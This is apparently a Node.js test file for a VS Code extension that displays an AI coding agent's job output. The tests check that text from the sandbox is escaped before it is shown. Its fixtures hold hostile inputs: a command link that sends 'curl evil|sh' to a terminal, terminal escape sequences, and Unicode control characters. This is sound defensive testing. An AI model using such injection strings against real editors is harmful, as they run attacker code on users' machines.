'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const present = require('../lib/present');
const fx = require('./fixtures');

test('events become output lines, as the CLI prints them', () => {
  const lines = fx.ASK_EVENTS.flatMap((e) => present.outputLines(e) || []);
  assert.deepEqual(lines, [
    'queued as job 7aa6964d0087, 2 ahead',
    'waiting: 1 ahead in the queue',
    'AI started',
    'looking',
    'at two files',
    '> Write src/app.py',
    '> Write new.txt',
    'AI finished: 2 files, +2 -1',
  ]);
  assert.deepEqual(present.outputLines({ type: 'finished', stats: { files: 0 } }), ['AI finished: no changes']);
  assert.deepEqual(present.outputLines({ type: 'failed', reason: 'the AI exited with status 1' }), ['AI run failed: the AI exited with status 1']);
  assert.deepEqual(present.outputLines({ type: 'tool_error', text: 'x'.repeat(300) }), [`  tool error: ${'x'.repeat(199)}…`]);
  assert.equal(present.outputLines({ type: 'text', text: '  ' }), null);
});

test('the job\'s network shows as the CLI prints it, its host names escaped', () => {
  const network = { contacted: { 'api.anthropic.com': { allowed: 3 }, 'pub.dev': { allowed: 1 } },
    refused: { 'evil.example': 3, '[x](command:workbench.action.terminal.new)': 1 } };
  assert.deepEqual(present.outputLines({ type: 'finished', stats: { files: 0 }, network }), [
    'AI finished: no changes',
    'network contacted: api.anthropic.com, pub.dev; refused: evil.example x3, [x](command:workbench.action.terminal.new) x1',
  ]);
  assert.deepEqual(present.outputLines({ type: 'network_refused', host: 'evil\u001b[2J.example', count: 2 }),
    ['network: evil\\x1b[2J.example refused by the box\'s [network] policy (x2)']);
  assert.deepEqual(present.outputLines({ type: 'network', host: 'pub.dev' }), ['network: pub.dev']);
  assert.deepEqual(present.networkLine(undefined), []);
});

test('control characters from the box are shown escaped', () => {
  assert.deepEqual(present.outputLines({ type: 'text', text: 'a\u001b]0;pwned\u0007b\tc' }), ['a\\x1b]0;pwned\\x07b\tc']);
  assert.equal(present.jobItem({ id: 'j', status: 'done', prompt: '\u001b[2Jhi', created: 0 }, 10).label, '$(check) \\x1b[2Jhi');
});

test('box text in a notification runs no command and draws no icon', () => {
  const link = 'failed [Open settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D "ok") $(check)';
  const shown = present.errorMessage({ message: `AI run failed: ${link}`, hint: '[x](command:y)' });
  assert.doesNotMatch(shown, /\]\(/);
  assert.doesNotMatch(shown, /\$\(/);
  assert.match(shown, /\[Open settings\] \(command:workbench/);
  assert.equal(present.plain('a\u202eb\u2028c\u061cd\u3164e\u{E0041}'), 'a<U+202E>b<U+2028>c<U+061C>d<U+3164>e<U+E0041>');
  // variation selectors (another name, drawn the same) and newer format characters; emoji keep their style
  assert.equal(present.plain('allowed\ufe00 a1\ufe0f \u0890 \u{13430} \ufff0 \u{E0FFF} \u2764\ufe0f'),
    'allowed<U+FE00> a1<U+FE0F> <U+0890> <U+13430> <U+FFF0> <U+E0FFF> \u2764\ufe0f');
  assert.equal(present.plain('\u3042\ufe0f \u212a\ufe0f'), '\u3042<U+FE0F> \u212a<U+FE0F>');
  const item = present.jobItem({ id: 'abc', status: 'failed', prompt: '$(loading~spin) [a](command:x)', reason: '[b](command:y)', created: 0 }, 10);
  assert.equal(item.label, '$(error) $ (loading~spin) [a] (command:x)');
  assert.equal(item.detail, '[b] (command:y)');
});

test('the progress notification says syncing, queued with the position, running, fetching', () => {
  const messages = fx.ASK_EVENTS.map((e) => present.progressMessage(e));
  assert.deepEqual(messages, [
    'queued as job 7aa6964d0087: 2 ahead', 'queued: 1 ahead', 'running', null, 'running: looking',
    'running: Write src/app.py', 'running: Write new.txt', null, 'fetching the diff',
  ]);
  assert.equal(present.progressMessage({ type: 'queued', job: 'j', position: 0 }), 'queued as job j');
});

test('box text in the progress notification runs no command and draws no icon', () => {
  const tool = present.progressMessage({ type: 'tool', name: '[Sign in again](command:workbench.action.terminal.new)', detail: '$(check)' });
  assert.equal(tool, 'running: [Sign in again] (command:workbench.action.terminal.new) $ (ch…');
  const text = present.progressMessage({ type: 'text', text: 'see [x](command:workbench.action.tasks.build)' });
  assert.equal(text, 'running: see [x] (command:workbench.action.tasks.build)');
  assert.equal(present.progressMessage({ type: 'queued', job: '[j](command:x)' }), 'queued as job [j] (command:x)');
});

test('jobs: newest first, with status, age and size', () => {
  const sorted = present.sortJobs(fx.JOBS.jobs);
  assert.deepEqual(sorted.map((j) => j.id), ['bbb222', 'ccc333', 'aaa111', 'ddd444']);
  const item = present.jobItem(fx.JOBS.jobs[0], 1000 + 3700);
  assert.equal(item.label, '$(check) prompt of aaa111');
  assert.equal(item.description, 'aaa111 · done · 1h ago · 2 files +2 -1');
  assert.equal(present.jobItem(fx.JOBS.jobs[3], 530).detail, 'the AI exited with status 1');
});

test('the status bar counts your running and waiting jobs, or names the failure', () => {
  assert.equal(present.statusBar(fx.JOBS.jobs, null).text, '$(sync~spin) Patchwire: 1 running, 1 waiting');
  assert.equal(present.statusBar([], null).text, '$(cloud) Patchwire');
  const down = present.statusBar([], { message: 'cannot reach the agent at http://127.0.0.1:9: refused', hint: 'is it running?' });
  assert.equal(down.text, '$(warning) Patchwire');
  assert.match(down.tooltip, /cannot reach the agent at http:\/\/127.0.0.1:9: refused\nis it running\?/);
});

test('look_closely items are flagged on their files, the others listed apart; missing means none', () => {
  const plain = present.fileItems(fx.DIFF);
  assert.deepEqual(plain.map((f) => [f.label, f.description, f.detail]), [
    ['$(diff) new.txt', 'new +1 -0', undefined],
    ['$(diff) src/app.py', 'modified +1 -1', undefined],
  ]);
  assert.deepEqual(present.generalFlags(fx.DIFF), []);
  const flagged = present.fileItems(fx.DIFF_LOOK_CLOSELY);
  assert.deepEqual(flagged.map((f) => f.detail), [undefined, undefined, 'look closely: becomes executable']);
  assert.equal(flagged[2].label, '$(warning) run.sh');
  assert.deepEqual(present.generalFlags(fx.DIFF_LOOK_CLOSELY), ['.vscode/tasks.json: configures a tool']);
  const icons = { files: [], look_closely: [{ path: '$(pass-filled) all checks passed', reason: '[x](command:y) deleted' }] };
  assert.deepEqual(present.generalFlags(icons), ['$ (pass-filled) all checks passed: [x] (command:y) deleted']);
});

test('context: the selection goes into the prompt, the current file by name', () => {
  assert.equal(present.promptWithContext('fix it', null), 'fix it');
  assert.equal(present.promptWithContext('fix it', { kind: 'file', path: 'src/app.py' }), 'fix it\n\nContext: the file src/app.py');
  assert.equal(present.promptWithContext('fix it', { kind: 'selection', path: 'a.md', startLine: 2, endLine: 3, text: 'x\n```y```' }),
    'fix it\n\nContext: lines 2-3 of a.md:\n~~~~\nx\n```y```\n~~~~');
});

test('apply and error notifications', () => {
  assert.equal(present.appliedMessage('j', fx.APPLIED), 'Patchwire: applied job j: 2 files');
  assert.equal(present.appliedMessage('j', { how: '3-way', files: ['a'], partial: true }),
    'Patchwire: applied job j (3-way merged with your edits): 1 file; the rest stays in the job');
  assert.equal(present.errorMessage({ message: 'job x is done', hint: '' }), 'Patchwire: job x is done');
  assert.equal(present.errorMessage({ message: 'no .patchwire.toml', hint: 'run init' }), 'Patchwire: no .patchwire.toml (run init)');
});

test('setup and check events, and the checks on a finished job, read as the CLI prints them', () => {
  assert.deepEqual(present.outputLines({ type: 'setup', step: 'start', command: 'npm ci' }), ['setup: npm ci']);
  assert.deepEqual(present.outputLines({ type: 'setup', text: 'added 3 packages\u001b[2J' }), ['  | added 3 packages\\x1b[2J']);
  assert.deepEqual(present.outputLines({ type: 'check', step: 'end', name: 'test', ok: false, exit_code: 1 }),
    ['check: test FAILED, exit 1']);
  assert.deepEqual(present.outputLines({ type: 'setup', step: 'skipped', reason: 'inputs unchanged' }),
    ['setup: skipped (inputs unchanged)']);
  const checks = { runs: [{ name: 'format', ok: true }, { name: 'test', ok: false, timed_out: true }] };
  assert.deepEqual(present.outputLines({ type: 'finished', stats: { files: 0 }, checks }),
    ['AI finished: no changes', 'checks: format ok, test TIMED OUT']);
  assert.deepEqual(present.checksLine({ matches_patch: false, runs: [] }),
    ['checks: none ran (ran on ANOTHER patch than the one shown)']);
  assert.deepEqual(present.checksLine(undefined), []);
});
